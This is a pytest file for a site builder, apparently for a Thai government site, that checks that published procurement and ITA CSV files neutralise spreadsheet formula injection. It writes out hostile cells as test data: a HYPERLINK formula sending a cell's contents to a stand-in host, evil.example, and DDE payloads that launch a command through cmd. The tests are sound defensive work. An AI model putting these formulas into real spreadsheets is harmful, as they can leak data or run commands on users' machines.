"""Every CSV the site publishes opens in a spreadsheet as text: a cell typed as a formula
(=HYPERLINK, +cmd|, @SUM, -2+3, or tab/CR before one) is neutralised, a negative number is not."""

from __future__ import annotations

import csv
import io

import pytest

from site_builder.spreadsheet import safe_cell

FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"คลิก")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_get_a_leading_apostrophe(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-1500", "-1,500.25", "1500", "ร้าน -ก-", "a=b", "", None])
def test_numbers_and_plain_text_are_kept(cell):
    assert safe_cell(cell) == ("" if cell is None else cell)


def _cells(path) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for cell in row]


def test_procurement_and_itas_csv_carry_no_live_formula(mini):
    header = ("งานที่ซื้อหรือจ้าง,วงเงินที่จะซื้อหรือจ้าง,วิธีซื้อหรือจ้าง,ผู้ได้รับการคัดเลือก,ราคาที่ตกลงซื้อหรือจ้าง,"
              "เหตุผลที่คัดเลือกโดยสรุป,เลขที่สัญญา,วันที่สัญญา")
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for i, formula in enumerate(FORMULAS):
        writer.writerow([formula, "1000", formula, formula, "900", formula, f"{formula}/{i}", "2567-01-15"])
    mini.write("content/procurement/2567.csv", header + "\n" + buffer.getvalue())
    mini.edit("data/ita/2567.yml", "title: ข้อมูลผู้บริหาร", "title: \"=HYPERLINK(\\\"https://evil.example\\\") ข้อมูลผู้บริหาร\"")
    result = mini.build(strict=False)
    assert result.returncode == 0, result.stderr
    published = [mini.file("site/procurement/2567.csv"), mini.file("site/2567/itas.csv")]
    cells = [cell for path in published for cell in _cells(path)]
    assert any(cell.startswith("'=HYPERLINK") for cell in _cells(published[1]))
    live = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not live, live
    assert sum(cell.startswith("'+cmd|") for cell in cells) >= 3
